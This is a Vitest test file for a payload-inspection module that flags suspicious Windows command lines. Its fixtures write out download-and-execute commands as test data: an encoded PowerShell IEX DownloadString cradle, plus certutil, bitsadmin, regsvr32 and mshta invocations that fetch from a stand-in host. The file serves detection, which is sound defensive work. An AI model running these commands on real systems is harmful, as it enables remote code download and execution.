import { describe, expect, it } from 'vitest';
import { decodeUtf16Base64, findEncodedCommands, inspectPayload } from '../../../src/domain/analysis/payload.js';
import { utf16Base64 } from './build-objects.js';

const ids = (text: string) => inspectPayload(text).indicators.map((i) => i.id);

describe('payload inspection', () => {
  it('decodes -enc arguments as UTF-16LE and looks inside them', () => {
    const inspection = inspectPayload(`powershell -NonI -W hidden -enc ${utf16Base64("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')")}`);
    expect(inspection.encodedCommands[0]!.decoded).toContain('DownloadString');
    const decoded = inspection.indicators.filter((i) => i.decoded).map((i) => i.id);
    expect(decoded).toEqual(expect.arrayContaining(['invoke-expression', 'download']));
  });

  it.each(['-e', '-ec', '-en', '-enc', '-EncodedCommand', '-encodedc', '/enc'])('recognises the PowerShell switch %s', (flag) => {
    expect(findEncodedCommands(`powershell.exe ${flag} ${utf16Base64('Write-Output 1')}`)).toHaveLength(1);
  });

  it('flags -EncodedCommand whose argument is not base64 (Covenant logged "<blah>") without decoding it', () => {
    const [command] = findEncodedCommands('powershell -Sta -Nop -Window Hidden -EncodedCommand <blah>');
    expect(command).toMatchObject({ flag: '-EncodedCommand', argument: '<blah>', decoded: null });
  });

  it('does not read /e of other programs as an encoded command', () => {
    expect(findEncodedCommands('cmd.exe /e:on /c echo hi')).toEqual([]);
    expect(ids('cmd.exe /e:on /c echo hi')).not.toContain('encoded-powershell');
  });

  it('returns null for base64 that is not UTF-16 text', () => {
    expect(decodeUtf16Base64(Buffer.from([0xff, 0xd8, 0x00, 0x01, 0x02, 0x03]).toString('base64'))).toBeNull();
    expect(decodeUtf16Base64('not base64!')).toBeNull();
  });

  it.each([
    ['bitsadmin /transfer j http://x.example/a C:\\a.exe', 'bitsadmin'],
    ['certutil -urlcache -split -f http://x.example/a a.exe', 'certutil'],
    ['mshta vbscript:Execute("x")', 'lolbin'],
    ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"', 'lolbin'],
    ['regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll', 'lolbin'],
    ['wscript.exe //B C:\\x.vbs', 'lolbin'],
    ['cscript //nologo x.js', 'lolbin'],
    ['C:\\Users\\Public\\a.exe', 'user-writable-path'],
    ['C:\\Users\\bob\\AppData\\Roaming\\a.exe', 'user-writable-path'],
    ['C:\\ProgramData\\a.exe', 'user-writable-path'],
    ['%TEMP%\\a.exe', 'user-writable-path'],
    ['cmd /c echo %ProcessId% >> c:\\\\temp\\\\log.txt', 'user-writable-path'],
    ['Set s = CreateObject("WScript.Shell")', 'script-exec-object'],
    ['Set s = CreateObject("ADODB.Stream")', 'script-download-object'],
    ['Set s = CreateObject("MSXML2.XMLHTTP")', 'script-download-object'],
    ['[Convert]::FromBase64String($x)', 'base64-decode'],
    ['Invoke-WebRequest http://x.example', 'download'],
    ['(New-Object Net.WebClient).DownloadFile($u,$p)', 'download'],
  ])('finds %s as %s', (text, id) => {
    expect(ids(text)).toContain(id);
  });

  it('does not mistake WScript.Shell for the wscript.exe script host', () => {
    expect(ids('CreateObject("WScript.Shell")')).not.toContain('lolbin');
  });
});
